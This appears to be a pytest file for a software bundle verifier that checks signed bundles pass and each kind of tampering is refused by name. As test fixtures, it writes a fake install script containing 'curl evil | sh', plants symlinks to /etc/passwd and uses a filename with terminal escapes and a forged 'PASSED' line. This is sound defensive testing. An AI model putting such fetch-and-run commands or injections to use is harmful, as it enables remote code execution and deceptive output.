"""`medai bundle verify`: a clean signed bundle passes with evidence; every tampering is refused by name."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
from datetime import UTC
from pathlib import Path

import pytest
from typer.testing import CliRunner

import installer.cli.bundle_trust  # noqa: F401  (registers verify/push on the bundle app)
from installer.cli.bundle import app as bundle_app
from installer.trust.verify import verify_bundle, verify_model

pytestmark = pytest.mark.loopback


def run_verify(*args: str):
    return CliRunner().invoke(bundle_app, ["verify", *map(str, args)])


def index_of(bundle: Path) -> dict:
    return json.loads((bundle / "index.json").read_text())


def artifact(bundle: Path, kind: str, name_part: str = "") -> dict:
    return next(a for a in index_of(bundle)["artifacts"] if a["kind"] == kind and name_part in (a.get("ref") or a["name"]))


def flip_byte(path: Path, offset: int | None = None) -> None:
    data = bytearray(path.read_bytes())
    i = len(data) // 2 if offset is None else offset
    data[i] ^= 0x01
    path.write_bytes(bytes(data))


def test_clean_bundle_passes_with_evidence(bundle_copy, medai_keys, medai_home):
    r = run_verify(bundle_copy, "--key", medai_keys.pub)
    assert r.exit_code == 0, r.output
    assert "PASSED" in r.output and "image sigs:  3/3 verified" in r.output
    assert not (bundle_copy / "reports").exists()  # reports go to the state directory, never into the bundle
    reports = sorted((medai_home / "reports").glob("verify-*.json"))
    assert len(reports) == 1
    rep = json.loads(reports[0].read_text())
    assert rep["result"] == "passed"
    assert rep["signatures"]["checked"] is True
    assert rep["signatures"]["key"]["fingerprint"] == medai_keys_fingerprint(medai_keys)
    assert rep["signatures"]["indexSignature"] == "verified"
    kinds = {a["kind"] for a in rep["artifacts"]}
    assert {"image", "chart", "file", "model"} <= kinds
    assert all(a["result"] == "ok" for a in rep["artifacts"])
    assert all(a["signature"] == "verified" for a in rep["artifacts"] if a["kind"] == "image")
    assert reports[0].with_suffix(".txt").read_text().startswith("medai bundle verification: PASSED")
    # the report directory is not part of the bundle: verifying again still passes
    assert run_verify(bundle_copy, "--key", medai_keys.pub).exit_code == 0


def medai_keys_fingerprint(kp) -> str:
    from installer.trust.keys import fingerprint, load_public_key

    return fingerprint(load_public_key(kp.pub))


def test_without_key_says_signatures_not_checked(bundle_copy, tmp_path):
    report = tmp_path / "evidence" / "verify.json"
    r = run_verify(bundle_copy, "--report", report)
    assert r.exit_code == 0
    assert "SIGNATURES NOT CHECKED" in r.output
    rep = json.loads(report.read_text())
    assert rep["signatures"]["checked"] is False and rep["signatures"]["bundleIsSigned"] is True
    assert "SIGNATURES NOT CHECKED" in rep["signatures"]["warning"]
    assert "SIGNATURES NOT CHECKED" in report.with_suffix(".txt").read_text()


def _swap_signatures(b: Path) -> str:
    """Point tool's .sig reference at app's signature manifest (and re-sign nothing): returns tool's ref."""
    oci_index = b / "oci" / "index.json"
    doc = json.loads(oci_index.read_text())
    app, tool = artifact(b, "image", "demo/app"), artifact(b, "image", "demo/tool")
    name = "org.opencontainers.image.ref.name"
    by_name = {m["annotations"][name]: m for m in doc["manifests"]}
    app_sig = next(m for n, m in by_name.items() if n.endswith(app["digest"].replace(":", "-") + ".sig"))
    tool_sig = next(m for n, m in by_name.items() if n.endswith(tool["digest"].replace(":", "-") + ".sig"))
    tool_sig.update(digest=app_sig["digest"], size=app_sig["size"])
    oci_index.write_text(json.dumps(doc))
    return tool["ref"]


def _tamper(case: str, b: Path, other_keys) -> tuple[str, list[str]]:
    """Apply one tampering; returns (key to verify with, strings the output must name)."""
    key = "site"
    if case == "layer-blob":
        app = artifact(b, "image", "demo/app")
        manifest = json.loads((b / app["path"]).read_text())
        layer = manifest["layers"][-1]["digest"].split(":")[1]  # app's own layer (base layer is shared)
        flip_byte(b / "oci" / "blobs" / "sha256" / layer)
        return key, [f"altered: oci/blobs/sha256/{layer}", f"[BAD] image  {app['ref']}"]
    if case == "model-file":
        flip_byte(b / "models" / "tiny" / "weights.safetensors")
        return key, ["altered: models/tiny/weights.safetensors", "[BAD] model  tiny"]
    if case == "chart-archive":
        chart = artifact(b, "chart")
        flip_byte(b / chart["path"])
        return key, [f"altered: {chart['path']}", "[BAD] chart  demo"]
    if case == "file":
        flip_byte(b / "files" / "payload.bin", 10)
        return key, ["altered: files/payload.bin", "[BAD] file   payload.bin"]
    if case == "index-edited":
        text = (b / "index.json").read_text().replace('"version": "0.1.0"', '"version": "0.1.1"')
        (b / "index.json").write_text(text)
        return key, ["index.json", "does not verify"]
    if case == "index-replaced":
        # an attacker's consistent index: swap a file, then re-generate index.json without the key
        from installer.bundle.index import dumps, file_entries
        from installer.bundle.layout import BundleLayout

        (b / "files" / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
        doc = index_of(b)
        doc["files"] = file_entries(BundleLayout.at(b), {})
        (b / "index.json").write_bytes(dumps(doc))
        return key, ["index.json", "does not verify"]
    if case == "artifact-deleted":
        (b / "files" / "install.sh").unlink()
        return key, ["missing: files/install.sh", "[BAD] file   install.sh"]
    if case == "unexpected-file":
        (b / "files" / "evil.sh").write_text("#!/bin/sh\n")
        return key, ["extra: files/evil.sh"]
    if case == "wrong-key":
        return "other", ["index.json", "does not verify", "no signature verifies"]
    if case == "signature-swapped":
        tool_ref = _swap_signatures(b)
        # the edited oci/index.json no longer matches the signed index, so it is not even parsed
        return key, [tool_ref, "altered: oci/index.json", "no signature manifest"]
    if case == "index-signature-removed":
        (b / "index.json.sig").unlink()
        return key, ["index.json.sig: missing"]
    if case == "symlink-outside":
        os.symlink("/etc/passwd", b / "files" / "passwd")
        return key, ["unsafe: files/passwd", "/etc/passwd"]
    if case == "listed-file-replaced-by-symlink":
        (b / "files" / "install.sh").unlink()
        os.symlink("/etc/hostname", b / "files" / "install.sh")
        return key, ["unsafe: files/install.sh", "/etc/hostname"]
    raise AssertionError(case)


TAMPER_CASES = ["layer-blob", "model-file", "chart-archive", "file", "index-edited", "index-replaced",
                "artifact-deleted", "unexpected-file", "wrong-key", "signature-swapped", "index-signature-removed",
                "symlink-outside", "listed-file-replaced-by-symlink"]


@pytest.mark.parametrize("case", TAMPER_CASES)
def test_tampering_is_refused_by_name(case, bundle_copy, medai_keys, other_keys, medai_home):
    which, must_name = _tamper(case, bundle_copy, other_keys)
    pub = medai_keys.pub if which == "site" else other_keys.pub
    r = run_verify(bundle_copy, "--key", pub)
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert r.exit_code == 1, r.output
    assert "FAILED" in r.output
    for s in must_name:
        assert s in r.output, f"{case}: {s!r} not in output:\n{r.output}"
    rep = json.loads(sorted((medai_home / "reports").glob("verify-*.json"))[-1].read_text())
    assert rep["result"] == "failed" and rep["problems"]


def test_cli_exit_codes_and_one_line_error(signed_bundle, medai_keys, tmp_path):
    out = subprocess.run(["medai", "bundle", "verify", str(tmp_path / "nope"), "--key", str(medai_keys.pub)],
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 2
    assert out.stderr.strip().count("\n") == 0 and "nope" in out.stderr
    report = tmp_path / "r.json"
    out = subprocess.run(["medai", "bundle", "verify", str(signed_bundle), "--key", str(medai_keys.pub), "--json",
                          "--report", str(report)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["result"] == "passed"


def test_verify_model_on_a_node(signed_bundle, medai_keys, other_keys, tmp_path):
    node_dir = tmp_path / "node-model"
    shutil.copytree(signed_bundle / "models" / "tiny", node_dir)
    ok = verify_model(signed_bundle, "tiny", node_dir, key=medai_keys.pub)
    assert ok.ok and ok.files == 3 and ok.index_signature == "verified"

    flip_byte(node_dir / "weights.safetensors")
    (node_dir / "extra.safetensors").write_bytes(b"x")
    os.symlink("/etc/passwd", node_dir / "tokenizer" / "merges.txt")
    bad = verify_model(signed_bundle, "tiny", node_dir, key=medai_keys.pub)
    assert not bad.ok
    joined = "\n".join(bad.problems)
    assert "altered: weights.safetensors" in joined and "extra: extra.safetensors" in joined
    assert "tokenizer/merges.txt" in joined

    r = run_verify(signed_bundle, "--model", "tiny", "--path", node_dir, "--key", medai_keys.pub)
    assert r.exit_code == 1 and "weights.safetensors" in r.output

    from installer.core.errors import TrustError

    with pytest.raises(TrustError, match="does not verify"):
        verify_model(signed_bundle, "tiny", node_dir, key=other_keys.pub)
    with pytest.raises(TrustError, match="not in"):
        verify_model(signed_bundle, "nosuch", node_dir, key=medai_keys.pub)


def test_report_written_beside_when_asked(signed_bundle, medai_keys, tmp_path):
    res = verify_bundle(signed_bundle, key=medai_keys.pub, report=tmp_path / "a" / "rep.json")
    assert res.ok and res.report_path == tmp_path / "a" / "rep.json"
    assert not (signed_bundle / "reports").exists() or not list((signed_bundle / "reports").glob("*"))


def test_standalone_model_check_runs_with_bare_python(signed_bundle, tmp_path):
    """The node-side check needs nothing but python3's standard library (no medai, no venv)."""
    import sys

    script = Path(__file__).resolve().parents[2] / "installer" / "trust" / "model_check.py"
    node_dir = tmp_path / "m"
    shutil.copytree(signed_bundle / "models" / "tiny", node_dir)
    cmd = [sys.executable, "-I", "-S", str(script), "--index", str(signed_bundle / "index.json"), "--model", "tiny",
           "--path", str(node_dir)]
    ok = subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert ok.returncode == 0 and "PASSED" in ok.stdout, ok.stderr
    flip_byte(node_dir / "config.json", 0)
    bad = subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert bad.returncode == 1 and "altered: config.json" in bad.stderr


# ---------------------------------------------------------------- reports never written through the stick


def test_planted_symlink_in_reports_writes_nothing_outside(bundle_copy, medai_keys, medai_home, tmp_path):
    from datetime import datetime

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (bundle_copy / "reports").mkdir()
    now = datetime.now(UTC)
    for sec in range(0, 5):  # the names the next few seconds would use
        stamp = (now.replace(microsecond=0) + __import__("datetime").timedelta(seconds=sec)).strftime("%Y%m%dT%H%M%SZ")
        (bundle_copy / "reports" / f"verify-{stamp}.txt").symlink_to(victim)
    r = run_verify(bundle_copy, "--key", medai_keys.pub)
    assert victim.read_text() == "precious\n"
    assert r.exit_code == 1 and "unsafe: reports/verify-" in r.output  # a symlink in the bundle is a finding
    assert list((medai_home / "reports").glob("verify-*.txt"))


def test_report_never_follows_a_planted_link_even_when_named(signed_bundle, medai_keys, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "rep.txt").symlink_to(victim)
    from installer.core.errors import BundleError

    with pytest.raises(BundleError, match="exists; refusing to overwrite"):
        verify_bundle(signed_bundle, key=medai_keys.pub, report=out / "rep.json")
    assert victim.read_text() == "precious\n" and not (out / "rep.json").exists()
    with pytest.raises(BundleError, match="inside the bundle"):
        verify_bundle(signed_bundle, key=medai_keys.pub, report=signed_bundle / "reports")


def test_control_characters_in_an_unlisted_name_are_escaped(bundle_copy, medai_keys, medai_home):
    (bundle_copy / "files" / "x\nmedai bundle verification: PASSED\x1b[2J").write_text("planted")
    r = run_verify(bundle_copy, "--key", medai_keys.pub)
    assert r.exit_code == 1
    assert "extra: files/x\\nmedai bundle verification: PASSED\\x1b[2J" in r.output
    assert "\x1b" not in r.output and r.output.count("PASSED") == 1  # the forged line is not a line
    (txt,) = (medai_home / "reports").glob("verify-*.txt")
    lines = txt.read_text().splitlines()
    assert lines[0] == "medai bundle verification: FAILED" and not any(ln.startswith("medai bundle verification: PASSED") for ln in lines)


# ---------------------------------------------------------------- nothing unvouched-for is parsed


@pytest.mark.parametrize("doc", ['{"manifests": [1, "x"]}', '{"manifests": [{"annotations": "str"}]}', "[]", "{not json",
                                 '{"manifests": [{"annotations": {"org.opencontainers.image.ref.name": "a:1"}, "digest": 5}]}'])
def test_malformed_oci_index_is_a_one_line_problem(bundle_copy, medai_keys, doc):
    (bundle_copy / "oci" / "index.json").write_text(doc)
    r = run_verify(bundle_copy, "--key", medai_keys.pub)
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    assert r.exit_code == 1 and "altered: oci/index.json" in r.output
    assert "not checked against index.json" not in r.output  # it was never parsed: the hash already failed


def test_malformed_oci_index_in_a_validly_signed_bundle_is_one_line(bundle_copy, medai_keys, tmp_path):
    """Even a signed-but-malformed oci/index.json (a broken build) gives a named problem, never a traceback."""
    from installer.bundle.index import dumps
    from installer.core.hashing import sha256_file
    from installer.trust.signing import sign_index

    oci_index = bundle_copy / "oci" / "index.json"
    oci_index.write_text('{"manifests": [1, 2]}')
    doc = index_of(bundle_copy)
    for f in doc["files"]:
        if f["path"] == "oci/index.json":
            f["size"], f["sha256"] = oci_index.stat().st_size, sha256_file(oci_index)
    data = dumps(doc)
    (bundle_copy / "index.json").write_bytes(data)
    os.environ["MEDAI_KEY_PASSWORD"] = medai_keys.password
    sign_index(bundle_copy, data, medai_keys.key)
    res = verify_bundle(bundle_copy, key=medai_keys.pub, write_report=False)
    assert not res.ok and any("oci/index.json" in p and "manifests[0]: not a descriptor" in p for p in res.problems)
